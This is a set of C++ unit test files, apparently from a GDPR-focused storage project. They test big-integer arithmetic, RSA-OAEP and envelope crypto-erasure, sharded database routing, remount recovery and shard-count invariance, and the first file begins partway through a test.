  EXPECT_FALSE(BigUint::FromDecimal("").ok());
  EXPECT_FALSE(BigUint::FromDecimal("12a").ok());
}

TEST(BigUintTest, BytesRoundTrip) {
  Rng rng(11);
  for (int i = 0; i < 50; ++i) {
    const BigUint v = BigUint::RandomWithBits(1 + rng.NextBelow(300), rng);
    EXPECT_EQ(BigUint::FromBytes(v.ToBytes()), v);
  }
}

TEST(BigUintTest, AddSubInverse) {
  Rng rng(12);
  for (int i = 0; i < 100; ++i) {
    const BigUint a = BigUint::RandomWithBits(1 + rng.NextBelow(200), rng);
    const BigUint b = BigUint::RandomWithBits(1 + rng.NextBelow(200), rng);
    EXPECT_EQ(a.Add(b).Sub(b), a);
    EXPECT_EQ(a.Add(b), b.Add(a));
  }
}

TEST(BigUintTest, MulDivInverse) {
  Rng rng(13);
  for (int i = 0; i < 100; ++i) {
    const BigUint a = BigUint::RandomWithBits(1 + rng.NextBelow(256), rng);
    const BigUint b = BigUint::RandomWithBits(1 + rng.NextBelow(256), rng);
    auto dm = a.Mul(b).DivMod(b);
    ASSERT_TRUE(dm.ok());
    EXPECT_EQ(dm->quotient, a);
    EXPECT_TRUE(dm->remainder.IsZero());
  }
}

TEST(BigUintTest, DivModIdentity) {
  // a == q*b + r with r < b, across random operand sizes (exercises the
  // Knuth-D qhat correction paths).
  Rng rng(14);
  for (int i = 0; i < 200; ++i) {
    const BigUint a = BigUint::RandomWithBits(1 + rng.NextBelow(400), rng);
    const BigUint b = BigUint::RandomWithBits(1 + rng.NextBelow(200), rng);
    auto dm = a.DivMod(b);
    ASSERT_TRUE(dm.ok());
    EXPECT_LT(dm->remainder.Compare(b), 0);
    EXPECT_EQ(dm->quotient.Mul(b).Add(dm->remainder), a);
  }
}

TEST(BigUintTest, DivisionByZeroFails) {
  EXPECT_FALSE(BigUint(5).DivMod(BigUint()).ok());
}

TEST(BigUintTest, ShiftsMatchMultiplication) {
  Rng rng(15);
  const BigUint two(2);
  for (int i = 0; i < 50; ++i) {
    const BigUint a = BigUint::RandomWithBits(1 + rng.NextBelow(100), rng);
    const std::size_t shift = rng.NextBelow(70);
    BigUint pow(1);
    for (std::size_t k = 0; k < shift; ++k) pow = pow.Mul(two);
    EXPECT_EQ(a.ShiftLeft(shift), a.Mul(pow));
    EXPECT_EQ(a.ShiftLeft(shift).ShiftRight(shift), a);
  }
}

TEST(BigUintTest, ModPowKnownValues) {
  // 2^10 mod 1000 = 24; 3^7 mod 50 = 37 (2187 mod 50).
  EXPECT_EQ(BigUint(2).ModPow(BigUint(10), BigUint(1000)).ToU64(), 24u);
  EXPECT_EQ(BigUint(3).ModPow(BigUint(7), BigUint(50)).ToU64(), 37u);
  // Fermat: a^(p-1) = 1 mod p for prime p.
  const BigUint p(1'000'000'007ULL);
  EXPECT_EQ(BigUint(123456).ModPow(p.Sub(BigUint(1)), p).ToU64(), 1u);
}

TEST(BigUintTest, GcdAndInverse) {
  EXPECT_EQ(BigUint::Gcd(BigUint(48), BigUint(36)).ToU64(), 12u);
  EXPECT_EQ(BigUint::Gcd(BigUint(17), BigUint(31)).ToU64(), 1u);
  // 3 * 7 = 21 = 1 mod 10.
  auto inv = BigUint(3).ModInverse(BigUint(10));
  ASSERT_TRUE(inv.ok());
  EXPECT_EQ(inv->ToU64(), 7u);
  // No inverse when gcd != 1.
  EXPECT_FALSE(BigUint(4).ModInverse(BigUint(8)).ok());
}

TEST(BigUintTest, ModInverseProperty) {
  Rng rng(16);
  const BigUint modulus = BigUint::RandomPrime(64, rng);
  for (int i = 0; i < 25; ++i) {
    const BigUint a =
        BigUint::RandomWithBits(1 + rng.NextBelow(60), rng).Mod(modulus);
    if (a.IsZero()) continue;
    auto inv = a.ModInverse(modulus);
    ASSERT_TRUE(inv.ok());
    EXPECT_EQ(a.Mul(*inv).Mod(modulus).ToU64(), 1u);
  }
}

TEST(BigUintTest, MillerRabinKnownPrimesAndComposites) {
  Rng rng(17);
  const std::uint64_t primes[] = {2, 3, 5, 7, 97, 7919, 1'000'000'007ULL};
  for (std::uint64_t p : primes) {
    EXPECT_TRUE(BigUint(p).IsProbablePrime(20, rng)) << p;
  }
  const std::uint64_t composites[] = {1, 4, 9, 91, 561 /*Carmichael*/,
                                      1'000'000'008ULL};
  for (std::uint64_t c : composites) {
    EXPECT_FALSE(BigUint(c).IsProbablePrime(20, rng)) << c;
  }
}

TEST(BigUintTest, RandomPrimeHasRequestedBits) {
  Rng rng(18);
  const BigUint p = BigUint::RandomPrime(96, rng);
  EXPECT_EQ(p.BitLength(), 96u);
  EXPECT_TRUE(p.IsOdd());
  EXPECT_TRUE(p.IsProbablePrime(30, rng));
}

// ---- RSA-OAEP -----------------------------------------------------------------------------

class RsaTest : public ::testing::Test {
 protected:
  // Key generation is the slow part: share one keypair per suite.
  static void SetUpTestSuite() {
    SecureRandom rng(99);
    auto keypair = RsaGenerate(1024, rng);
    ASSERT_TRUE(keypair.ok());
    keypair_ = new RsaKeyPair(std::move(keypair).value());
  }
  static void TearDownTestSuite() {
    delete keypair_;
    keypair_ = nullptr;
  }
  static RsaKeyPair* keypair_;
};

RsaKeyPair* RsaTest::keypair_ = nullptr;

TEST_F(RsaTest, KeyHasRequestedModulus) {
  EXPECT_EQ(keypair_->public_key.n.BitLength(), 1024u);
  EXPECT_EQ(keypair_->public_key.e.ToU64(), 65537u);
}

TEST_F(RsaTest, EncryptDecryptRoundTrip) {
  SecureRandom rng(7);
  const Bytes message = ToBytes("the secret PD payload");
  auto ciphertext = RsaEncrypt(keypair_->public_key, message, rng);
  ASSERT_TRUE(ciphertext.ok()) << ciphertext.status().ToString();
  EXPECT_EQ(ciphertext->size(), keypair_->public_key.ModulusBytes());
  auto decrypted = RsaDecrypt(keypair_->private_key, *ciphertext);
  ASSERT_TRUE(decrypted.ok()) << decrypted.status().ToString();
  EXPECT_EQ(*decrypted, message);
}

TEST_F(RsaTest, OaepIsRandomised) {
  SecureRandom rng(7);
  const Bytes message = ToBytes("same message");
  auto c1 = RsaEncrypt(keypair_->public_key, message, rng);
  auto c2 = RsaEncrypt(keypair_->public_key, message, rng);
  ASSERT_TRUE(c1.ok() && c2.ok());
  EXPECT_NE(*c1, *c2);
}

TEST_F(RsaTest, EmptyAndMaxLengthMessages) {
  SecureRandom rng(8);
  const std::size_t max_len = keypair_->public_key.ModulusBytes() - 66;
  for (std::size_t len : {std::size_t{0}, std::size_t{1}, max_len}) {
    const Bytes message(len, 0x5A);
    auto ciphertext = RsaEncrypt(keypair_->public_key, message, rng);
    ASSERT_TRUE(ciphertext.ok()) << len;
    auto decrypted = RsaDecrypt(keypair_->private_key, *ciphertext);
    ASSERT_TRUE(decrypted.ok()) << len;
    EXPECT_EQ(*decrypted, message);
  }
  // One byte over capacity fails.
  EXPECT_FALSE(
      RsaEncrypt(keypair_->public_key, Bytes(max_len + 1, 0), rng).ok());
}

TEST_F(RsaTest, TamperedCiphertextIsRejected) {
  SecureRandom rng(9);
  auto ciphertext =
      RsaEncrypt(keypair_->public_key, ToBytes("payload"), rng);
  ASSERT_TRUE(ciphertext.ok());
  (*ciphertext)[10] ^= 0x01;
  EXPECT_FALSE(RsaDecrypt(keypair_->private_key, *ciphertext).ok());
}

TEST_F(RsaTest, Mgf1ProducesRequestedLengthDeterministically) {
  const Bytes seed = ToBytes("seed");
  const Bytes a = Mgf1Sha256(seed, 100);
  const Bytes b = Mgf1Sha256(seed, 100);
  EXPECT_EQ(a.size(), 100u);
  EXPECT_EQ(a, b);
  EXPECT_NE(Mgf1Sha256(ToBytes("other"), 100), a);
}

TEST(RsaGenerateTest, RejectsBadParameters) {
  SecureRandom rng(1);
  EXPECT_FALSE(RsaGenerate(100, rng).ok());  // too small
  EXPECT_FALSE(RsaGenerate(513, rng).ok());  // odd
}

// ---- Envelope (crypto-erasure) ------------------------------------------------------------

TEST_F(RsaTest, EnvelopeSealOpenRoundTrip) {
  SecureRandom rng(10);
  const Bytes pd = ToBytes("name=alice;year=1990;the whole PD record");
  auto envelope = Seal(keypair_->public_key, pd, rng);
  ASSERT_TRUE(envelope.ok()) << envelope.status().ToString();
  // The ciphertext must not contain the plaintext.
  EXPECT_FALSE(ContainsSubsequence(envelope->ciphertext, pd));
  auto recovered = Open(keypair_->private_key, *envelope);
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  EXPECT_EQ(*recovered, pd);
}

TEST_F(RsaTest, EnvelopeSerializationRoundTrip) {
  SecureRandom rng(11);
  auto envelope = Seal(keypair_->public_key, ToBytes("payload"), rng);
  ASSERT_TRUE(envelope.ok());
  const Bytes wire = envelope->Serialize();
  auto parsed = Envelope::Deserialize(wire);
  ASSERT_TRUE(parsed.ok());
  auto recovered = Open(keypair_->private_key, *parsed);
  ASSERT_TRUE(recovered.ok());
  EXPECT_EQ(*recovered, ToBytes("payload"));
}

TEST_F(RsaTest, EnvelopeTamperDetection) {
  SecureRandom rng(12);
  auto envelope = Seal(keypair_->public_key, ToBytes("payload"), rng);
  ASSERT_TRUE(envelope.ok());
  Envelope tampered = *envelope;
  tampered.ciphertext[0] ^= 0xFF;
  auto opened = Open(keypair_->private_key, tampered);
  EXPECT_FALSE(opened.ok());
  EXPECT_EQ(opened.status().code(), StatusCode::kCorruption);
}

TEST_F(RsaTest, EnvelopeLargePayload) {
  SecureRandom rng(13);
  Bytes pd(100'000);
  for (std::size_t i = 0; i < pd.size(); ++i) {
    pd[i] = static_cast<std::uint8_t>(i * 31);
  }
  auto envelope = Seal(keypair_->public_key, pd, rng);
  ASSERT_TRUE(envelope.ok());
  auto recovered = Open(keypair_->private_key, *envelope);
  ASSERT_TRUE(recovered.ok());
  EXPECT_EQ(*recovered, pd);
}

TEST_F(RsaTest, WrongKeyCannotOpen) {
  SecureRandom rng(14);
  auto other = RsaGenerate(1024, rng);
  ASSERT_TRUE(other.ok());
  auto envelope = Seal(keypair_->public_key, ToBytes("payload"), rng);
  ASSERT_TRUE(envelope.ok());
  EXPECT_FALSE(Open(other->private_key, *envelope).ok());
}

}  // namespace
}  // namespace rgpdos::crypto
