// ShardedDbfs tests: routing arithmetic, id striding, schema-tree
// replication and mount-time reconciliation, merged subject cursors,
// facade-level audit discipline — and the headline shard-count
// invariance property: the same workload at 1 shard and at 4 shards
// must produce identical visible state, identical audit tallies and
// identical rights-export contents (only physical placement and raw
// record ids may differ).
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "blockdev/block_device.hpp"
#include "core/rgpdos.hpp"
#include "dbfs/sharded_dbfs.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::dbfs {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
constexpr sentinel::Domain kSysadmin = sentinel::Domain::kSysadmin;

constexpr std::string_view kNoteType = R"(
type note {
  fields { author: string, text: string };
  consent { reading: all };
  origin: subject;
  sensitivity: medium;
}
)";

constexpr std::string_view kExtraType = R"(
type extra {
  fields { payload: string };
  consent { reading: all };
  origin: subject;
  sensitivity: low;
}
)";

/// Fixture owning N raw stores and a ShardedDbfs over them. Stores and
/// devices are kept in vectors so individual shards can be inspected
/// (and remounted) directly.
class ShardedDbfsTest : public ::testing::Test {
 protected:
  static constexpr std::size_t kShards = 4;

  void SetUp() override {
    sentinel_ = std::make_unique<sentinel::Sentinel>(
        sentinel::SecurityPolicy::RgpdDefault(), &clock_, &audit_);
    for (std::size_t i = 0; i < kShards; ++i) {
      devices_.push_back(
          std::make_unique<blockdev::MemBlockDevice>(512, 4096));
      inodefs::InodeStore::Options options;
      options.inode_count = 256;
      options.journal_blocks = 64;
      auto store =
          inodefs::InodeStore::Format(devices_.back().get(), options, &clock_);
      ASSERT_TRUE(store.ok()) << store.status().ToString();
      stores_.push_back(std::move(store).value());
    }
    auto fs = ShardedDbfs::Format(StorePtrs(), sentinel_.get(), &clock_);
    ASSERT_TRUE(fs.ok()) << fs.status().ToString();
    fs_ = std::move(fs).value();
    auto decl = dsl::ParseType(kNoteType);
    ASSERT_TRUE(decl.ok());
    note_decl_ = *decl;
    ASSERT_TRUE(fs_->CreateType(kSysadmin, note_decl_).ok());
  }

  std::vector<inodefs::InodeStore*> StorePtrs() {
    std::vector<inodefs::InodeStore*> out;
    for (const auto& s : stores_) out.push_back(s.get());
    return out;
  }

  Result<RecordId> PutNote(SubjectId subject, const std::string& author,
                           const std::string& text) {
    membrane::Membrane m = note_decl_.DefaultMembrane(subject, clock_.Now());
    return fs_->Put(kDed, subject, "note",
                    db::Row{db::Value(author), db::Value(text)},
                    std::move(m));
  }

  SimClock clock_{1000};
  sentinel::AuditSink audit_;
  std::unique_ptr<sentinel::Sentinel> sentinel_;
  std::vector<std::unique_ptr<blockdev::MemBlockDevice>> devices_;
  std::vector<std::unique_ptr<inodefs::InodeStore>> stores_;
  std::unique_ptr<ShardedDbfs> fs_;
  dsl::TypeDecl note_decl_;
};

TEST_F(ShardedDbfsTest, RoutesSubjectsAndStridesRecordIds) {
  // Subjects 1..12 land on shard subject % 4; the record id minted for a
  // subject must decode (via (id-1) % N) back to the same shard.
  std::map<SubjectId, RecordId> ids;
  for (SubjectId s = 1; s <= 12; ++s) {
    auto id = PutNote(s, "author" + std::to_string(s), "row");
    ASSERT_TRUE(id.ok()) << id.status().ToString();
    ids[s] = *id;
  }
  std::set<RecordId> distinct;
  for (const auto& [subject, id] : ids) {
    EXPECT_EQ(fs_->ShardIndexOfRecord(id), fs_->ShardIndexOfSubject(subject))
        << "record " << id << " of subject " << subject;
    distinct.insert(id);
  }
  EXPECT_EQ(distinct.size(), ids.size()) << "strided ids must not collide";
  // Visible state is the union; every record readable through the facade.
  EXPECT_EQ(fs_->record_count(), 12u);
  EXPECT_EQ(fs_->subject_count(), 12u);
  for (const auto& [subject, id] : ids) {
    auto rec = fs_->Get(kDed, id);
    ASSERT_TRUE(rec.ok()) << rec.status().ToString();
    EXPECT_EQ(rec->subject_id, subject);
  }
  // Subjects 1..12 at N=4: three subjects per shard, one record each.
  for (std::size_t i = 0; i < kShards; ++i) {
    EXPECT_EQ(fs_->shard(i).record_count(), 3u) << "shard " << i;
    EXPECT_EQ(fs_->shard(i).subject_count(), 3u) << "shard " << i;
  }
}

TEST_F(ShardedDbfsTest, CreateTypeReplicatesToEveryShard) {
  auto decl = dsl::ParseType(kExtraType);
  ASSERT_TRUE(decl.ok());
  ASSERT_TRUE(fs_->CreateType(kSysadmin, *decl).ok());
  for (std::size_t i = 0; i < kShards; ++i) {
    const std::vector<std::string> names = fs_->shard(i).TypeNames();
    EXPECT_NE(std::find(names.begin(), names.end(), "extra"), names.end())
        << "shard " << i << " missing replicated type";
  }
  // Any shard can validate a row locally: a put routed to shard 3.
  membrane::Membrane m = decl->DefaultMembrane(3, clock_.Now());
  auto id = fs_->Put(kDed, 3, "extra", db::Row{db::Value(std::string("p"))},
                     std::move(m));
  EXPECT_TRUE(id.ok()) << id.status().ToString();
}

TEST_F(ShardedDbfsTest, SubjectsAfterMergesPerShardCursors) {
  // 20 subjects spread over all four shards.
  for (SubjectId s = 1; s <= 20; ++s) {
    ASSERT_TRUE(PutNote(s, "a", "t").ok());
  }
  // Page through the merged cursor exactly as the retention sweeper
  // does: each page must be globally sorted, gap-free, and the walk must
  // enumerate every subject exactly once.
  std::vector<SubjectId> walked;
  SubjectId after = 0;
  for (;;) {
    auto page = fs_->SubjectsAfter(kDed, after, 3);
    ASSERT_TRUE(page.ok()) << page.status().ToString();
    if (page->empty()) break;
    EXPECT_LE(page->size(), 3u);
    EXPECT_TRUE(std::is_sorted(page->begin(), page->end()));
    EXPECT_GT(page->front(), after);
    walked.insert(walked.end(), page->begin(), page->end());
    after = page->back();
  }
  std::vector<SubjectId> expect;
  for (SubjectId s = 1; s <= 20; ++s) expect.push_back(s);
  EXPECT_EQ(walked, expect);
  // limit 0 is an empty page, not an error (sweeper's zero-token path).
  auto none = fs_->SubjectsAfter(kDed, 0, 0);
  ASSERT_TRUE(none.ok());
  EXPECT_TRUE(none->empty());
}

TEST_F(ShardedDbfsTest, FanOutOpsGateExactlyOnce) {
  ASSERT_TRUE(PutNote(1, "a", "t").ok());
  ASSERT_TRUE(PutNote(2, "b", "t").ok());
  const auto count_with_detail = [&](const std::string& detail) {
    return audit_
        .Query([&](const sentinel::AuditEntry& e) {
          return e.request.detail == detail;
        })
        .size();
  };
  // A fan-out read touches all four shards but must audit exactly once,
  // with the same detail string a single-store Dbfs would log.
  ASSERT_TRUE(fs_->RecordsOfType(kDed, "note").ok());
  EXPECT_EQ(count_with_detail("scan type=note"), 1u);
  ASSERT_TRUE(fs_->SubjectsAfter(kDed, 0, 10).ok());
  EXPECT_EQ(count_with_detail("subject scan after=0"), 1u);
  ASSERT_TRUE(fs_->ReportSensitivity(kSysadmin).ok());
  EXPECT_EQ(count_with_detail("sensitivity report"), 1u);
  ASSERT_TRUE(fs_->CopyGroupMembers(kDed, 12345).ok());
  EXPECT_EQ(count_with_detail("copy_group=12345"), 1u);
}

TEST_F(ShardedDbfsTest, GetManyFansOutAndScattersBackInRequestOrder) {
  // 12 subjects over 4 shards; the batch mixes shards, duplicates, a
  // missing id and id 0, in deliberately shuffled order.
  std::map<SubjectId, RecordId> by_subject;
  for (SubjectId s = 1; s <= 12; ++s) {
    auto id = PutNote(s, "author" + std::to_string(s),
                      "text" + std::to_string(s));
    ASSERT_TRUE(id.ok());
    by_subject[s] = *id;
  }
  const std::vector<RecordId> ids = {
      by_subject[7], by_subject[2], 99999,        by_subject[7],
      by_subject[4], 0,             by_subject[1], by_subject[12]};
  const auto batched = fs_->GetMany(kDed, ids);
  ASSERT_EQ(batched.size(), ids.size());
  for (std::size_t i = 0; i < ids.size(); ++i) {
    const auto one = fs_->Get(kDed, ids[i]);
    ASSERT_EQ(batched[i].ok(), one.ok()) << "slot " << i;
    if (!one.ok()) {
      EXPECT_EQ(batched[i].status().code(), one.status().code());
      continue;
    }
    EXPECT_EQ(batched[i]->subject_id, one->subject_id) << "slot " << i;
    ASSERT_EQ(batched[i]->row.size(), one->row.size());
    for (std::size_t f = 0; f < one->row.size(); ++f) {
      EXPECT_TRUE(batched[i]->row[f] == one->row[f]) << "slot " << i;
    }
  }
  const auto membranes = fs_->GetMembraneMany(kDed, ids);
  ASSERT_EQ(membranes.size(), ids.size());
  for (std::size_t i = 0; i < ids.size(); ++i) {
    const auto one = fs_->GetMembrane(kDed, ids[i]);
    ASSERT_EQ(membranes[i].ok(), one.ok()) << "slot " << i;
    if (one.ok()) {
      EXPECT_EQ(membranes[i]->Serialize(), one->Serialize()) << "slot " << i;
    }
  }
}

TEST_F(ShardedDbfsTest, MountReconcilesTypeCatalogAfterPartialCreate) {
  // Simulate a crash mid-CreateType: apply a type to shard 0 only (the
  // replication order), tear everything down, remount the same media.
  auto decl = dsl::ParseType(kExtraType);
  ASSERT_TRUE(decl.ok());
  ASSERT_TRUE(fs_->shard(0).CreateType(kSysadmin, *decl).ok());
  for (const auto& store : stores_) ASSERT_TRUE(store->Sync().ok());
  fs_.reset();
  stores_.clear();
  for (const auto& device : devices_) {
    auto store = inodefs::InodeStore::Mount(device.get(), &clock_);
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    stores_.push_back(std::move(store).value());
  }
  auto fs = ShardedDbfs::Mount(StorePtrs(), sentinel_.get(), &clock_);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  fs_ = std::move(fs).value();
  // Every shard now has the union catalog, durably.
  for (std::size_t i = 0; i < kShards; ++i) {
    const std::vector<std::string> names = fs_->shard(i).TypeNames();
    EXPECT_NE(std::find(names.begin(), names.end(), "extra"), names.end())
        << "shard " << i << " not reconciled";
    EXPECT_NE(std::find(names.begin(), names.end(), "note"), names.end());
  }
}

TEST_F(ShardedDbfsTest, RecordsSurviveRemountPerShardReplay) {
  std::map<SubjectId, RecordId> ids;
  for (SubjectId s = 1; s <= 8; ++s) {
    auto id = PutNote(s, "author" + std::to_string(s),
                      "text of " + std::to_string(s));
    ASSERT_TRUE(id.ok());
    ids[s] = *id;
  }
  for (const auto& store : stores_) ASSERT_TRUE(store->Sync().ok());
  fs_.reset();
  stores_.clear();
  for (const auto& device : devices_) {
    auto store = inodefs::InodeStore::Mount(device.get(), &clock_);
    ASSERT_TRUE(store.ok());
    stores_.push_back(std::move(store).value());
  }
  auto fs = ShardedDbfs::Mount(StorePtrs(), sentinel_.get(), &clock_);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  fs_ = std::move(fs).value();
  for (const auto& [subject, id] : ids) {
    auto rec = fs_->Get(kDed, id);
    ASSERT_TRUE(rec.ok()) << "subject " << subject << ": "
                          << rec.status().ToString();
    EXPECT_EQ(rec->subject_id, subject);
  }
  // Id high-water marks realigned per shard: new ids keep striding
  // without colliding with pre-remount ones.
  auto fresh = PutNote(5, "late", "after remount");
  ASSERT_TRUE(fresh.ok());
  EXPECT_EQ(fs_->ShardIndexOfRecord(*fresh), fs_->ShardIndexOfSubject(5));
  for (const auto& [subject, id] : ids) EXPECT_NE(*fresh, id);
}

// ---------------------------------------------------------------------------
// Shard-count invariance: the same mixed workload at shards=1 and
// shards=4 produces identical visible state, audit tallies and
// rights-export contents. Raw record ids legitimately differ (striding),
// so comparisons normalise ids away.
// ---------------------------------------------------------------------------

/// One record's logical content, stripped of physical identifiers.
struct LogicalRecord {
  std::string type;
  std::vector<std::string> fields;
  bool erased = false;
  bool restricted = false;
  std::vector<std::string> consents;  // "purpose:kind"

  bool operator<(const LogicalRecord& other) const {
    return std::tie(type, fields, erased, restricted, consents) <
           std::tie(other.type, other.fields, other.erased, other.restricted,
                    other.consents);
  }
  bool operator==(const LogicalRecord& other) const {
    return type == other.type && fields == other.fields &&
           erased == other.erased && restricted == other.restricted &&
           consents == other.consents;
  }
};

std::vector<LogicalRecord> NormalizeExport(const SubjectExport& ex) {
  std::vector<LogicalRecord> out;
  for (const PdRecord& rec : ex.records) {
    LogicalRecord lr;
    lr.type = rec.type_name;
    lr.erased = rec.erased;
    lr.restricted = rec.membrane.restricted;
    if (!rec.erased) {
      for (const db::Value& v : rec.row) {
        if (auto s = v.AsString(); s.ok()) {
          lr.fields.push_back(*s);
        } else if (auto i = v.AsInt(); i.ok()) {
          lr.fields.push_back(std::to_string(*i));
        }
      }
    }
    for (const auto& [purpose, consent] : rec.membrane.consents) {
      lr.consents.push_back(
          purpose + ":" + std::to_string(static_cast<int>(consent.kind)));
    }
    out.push_back(std::move(lr));
  }
  std::sort(out.begin(), out.end());
  return out;
}

/// Audit tally key: who asked what of whom and the verdict, with the
/// detail string's digit runs collapsed (record ids differ across shard
/// counts; everything else must match byte for byte).
std::string NormalizeDetail(const std::string& detail) {
  std::string out;
  bool in_digits = false;
  for (const char c : detail) {
    if (std::isdigit(static_cast<unsigned char>(c)) != 0) {
      if (!in_digits) out.push_back('#');
      in_digits = true;
    } else {
      in_digits = false;
      out.push_back(c);
    }
  }
  return out;
}

std::map<std::string, std::size_t> AuditTallies(
    const sentinel::AuditSink& audit) {
  std::map<std::string, std::size_t> tallies;
  for (const sentinel::AuditEntry& e : audit.Query([](const auto&) {
         return true;
       })) {
    const std::string key =
        std::to_string(static_cast<int>(e.request.subject)) + "->" +
        std::to_string(static_cast<int>(e.request.object)) + " op=" +
        std::to_string(static_cast<int>(e.request.op)) + " allowed=" +
        (e.allowed ? "1" : "0") + " " + NormalizeDetail(e.request.detail);
    ++tallies[key];
  }
  return tallies;
}

/// Everything the workload's outcome is judged by, at one shard count.
struct WorldState {
  std::map<SubjectId, std::vector<LogicalRecord>> exports;
  std::size_t record_count = 0;
  std::size_t subject_count = 0;
  std::vector<SubjectId> subjects;  // full SubjectsAfter walk
  std::map<std::string, std::size_t> audit;
};

/// The mixed workload from the invariance criterion: puts across many
/// subjects, a consent withdrawal, a targeted hard delete, a full
/// right-to-be-forgotten erasure, and a retention expiry — then a
/// normalized snapshot of everything a subject or regulator can see.
Result<WorldState> RunInvarianceWorkload(std::size_t shards) {
  core::BootConfig config;
  config.use_sim_clock = true;
  config.authority_key_bits = 1024;
  config.shards = shards;
  config.dbfs_blocks = 4096;
  config.block_size = 512;
  config.inode_count = 512;
  config.journal_blocks = 64;
  RGPD_ASSIGN_OR_RETURN(std::unique_ptr<core::RgpdOs> os,
                        core::RgpdOs::Boot(config));
  RGPD_ASSIGN_OR_RETURN(std::size_t declared, os->DeclareTypes(kNoteType));
  if (declared != 1) return Internal("expected one type");
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* decl,
                        os->dbfs().GetType(kSysadmin, "note"));

  const auto put = [&](SubjectId subject, const std::string& author,
                       const std::string& text,
                       TimeMicros ttl) -> Result<RecordId> {
    membrane::Membrane m = decl->DefaultMembrane(subject, os->clock().Now());
    m.ttl = ttl;
    return os->dbfs().Put(kDed, subject, "note",
                          db::Row{db::Value(author), db::Value(text)},
                          std::move(m));
  };

  // Two records for each of subjects 1..9 (covers every shard at N=4,
  // including shard 0 via subjects 4 and 8).
  for (SubjectId s = 1; s <= 9; ++s) {
    RGPD_RETURN_IF_ERROR(
        put(s, "author" + std::to_string(s), "first of " + std::to_string(s),
            0)
            .status());
    RGPD_RETURN_IF_ERROR(
        put(s, "author" + std::to_string(s), "second of " + std::to_string(s),
            0)
            .status());
  }

  // Consent withdrawal on subject 3's first record.
  {
    RGPD_ASSIGN_OR_RETURN(std::vector<RecordId> ids,
                          os->dbfs().RecordsOfSubject(kDed, 3));
    if (ids.empty()) return Internal("subject 3 has no records");
    std::sort(ids.begin(), ids.end());
    RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                          os->dbfs().GetMembrane(kDed, ids.front()));
    m.RevokeConsent("reading");
    RGPD_RETURN_IF_ERROR(os->dbfs().UpdateMembrane(kDed, ids.front(), m));
  }

  // Targeted hard delete: subject 5's first (lowest-id) record.
  {
    RGPD_ASSIGN_OR_RETURN(std::vector<RecordId> ids,
                          os->dbfs().RecordsOfSubject(kDed, 5));
    std::sort(ids.begin(), ids.end());
    RGPD_RETURN_IF_ERROR(os->dbfs().HardDelete(kDed, ids.front()));
  }

  // Full Art. 17 erasure of subject 7 (crypto-erasure to envelopes).
  RGPD_ASSIGN_OR_RETURN(std::size_t forgotten, os->RightToBeForgotten(7));
  if (forgotten != 2) return Internal("expected 2 records forgotten");

  // Retention expiry: a short-TTL record for subject 2, clock past the
  // deadline, one sweep.
  RGPD_RETURN_IF_ERROR(put(2, "author2", "ephemeral of 2", 500).status());
  os->sim_clock()->Advance(1000);
  RGPD_ASSIGN_OR_RETURN(const core::SweepReport report,
                        os->retention().SweepOnce());
  if (report.erased != 1) {
    return Internal("sweep erased " + std::to_string(report.erased));
  }

  // Snapshot. Exports normalise ids away; the subject walk and counts
  // are physical-placement-independent by construction.
  WorldState state;
  for (SubjectId s = 1; s <= 9; ++s) {
    RGPD_ASSIGN_OR_RETURN(SubjectExport ex, os->dbfs().ExportSubject(kDed, s));
    state.exports[s] = NormalizeExport(ex);
  }
  state.record_count = os->dbfs().record_count();
  state.subject_count = os->dbfs().subject_count();
  SubjectId after = 0;
  for (;;) {
    RGPD_ASSIGN_OR_RETURN(std::vector<SubjectId> page,
                          os->dbfs().SubjectsAfter(kDed, after, 4));
    if (page.empty()) break;
    state.subjects.insert(state.subjects.end(), page.begin(), page.end());
    after = page.back();
  }
  state.audit = AuditTallies(os->audit());
  return state;
}

TEST(ShardInvarianceTest, SameWorkloadSameWorldAtOneAndFourShards) {
  auto one = RunInvarianceWorkload(1);
  ASSERT_TRUE(one.ok()) << one.status().ToString();
  auto four = RunInvarianceWorkload(4);
  ASSERT_TRUE(four.ok()) << four.status().ToString();

  EXPECT_EQ(one->record_count, four->record_count);
  EXPECT_EQ(one->subject_count, four->subject_count);
  EXPECT_EQ(one->subjects, four->subjects) << "subject walks diverge";
  ASSERT_EQ(one->exports.size(), four->exports.size());
  for (const auto& [subject, records] : one->exports) {
    ASSERT_TRUE(four->exports.count(subject) != 0) << "subject " << subject;
    EXPECT_EQ(records, four->exports.at(subject))
        << "export of subject " << subject << " diverges";
  }
  // Audit trail: same decisions, same ops, same verdicts, same counts.
  EXPECT_EQ(one->audit, four->audit) << "audit tallies diverge";
}

TEST(ShardInvarianceTest, AttachRejectsMultiShardBoot) {
  // One attached image is one shard: shards > 1 must be a loud boot
  // error, not a silent misboot (satellite: attach_dbfs_device routes to
  // shard 0 with a single-shard requirement).
  // The config check fires before the device is touched, so an
  // unformatted medium suffices.
  blockdev::MemBlockDevice medium(512, 4096);
  core::BootConfig config;
  config.use_sim_clock = true;
  config.authority_key_bits = 1024;
  config.block_size = 512;
  config.inode_count = 256;
  config.journal_blocks = 64;
  config.attach_dbfs_device = &medium;
  config.shards = 2;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_FALSE(os.ok());
  EXPECT_EQ(os.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(os.status().ToString().find("single-shard"), std::string::npos)
      << os.status().ToString();
}

}  // namespace
}  // namespace rgpdos::dbfs
