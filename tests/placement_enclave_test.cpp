// Tests for the §3(3) protection/placement extensions: the DED placement
// cost model (PIM / PIS) and the SGX-analogue enclave memory.
#include <gtest/gtest.h>

#include "kernel/placement.hpp"
#include "sentinel/enclave.hpp"

namespace rgpdos {
namespace {

using kernel::DedPlacement;
using kernel::DedWorkload;
using kernel::PlacementPlanner;
using kernel::PlacementProfile;

// ---- Placement model ---------------------------------------------------------------

TEST(PlacementTest, HostWinsComputeHeavyWork) {
  PlacementPlanner planner;
  DedWorkload heavy_compute;
  heavy_compute.bytes_in = 1024;             // tiny data
  heavy_compute.compute_ops = 100'000'000;   // lots of math
  EXPECT_EQ(planner.Choose(heavy_compute), DedPlacement::kHost);
}

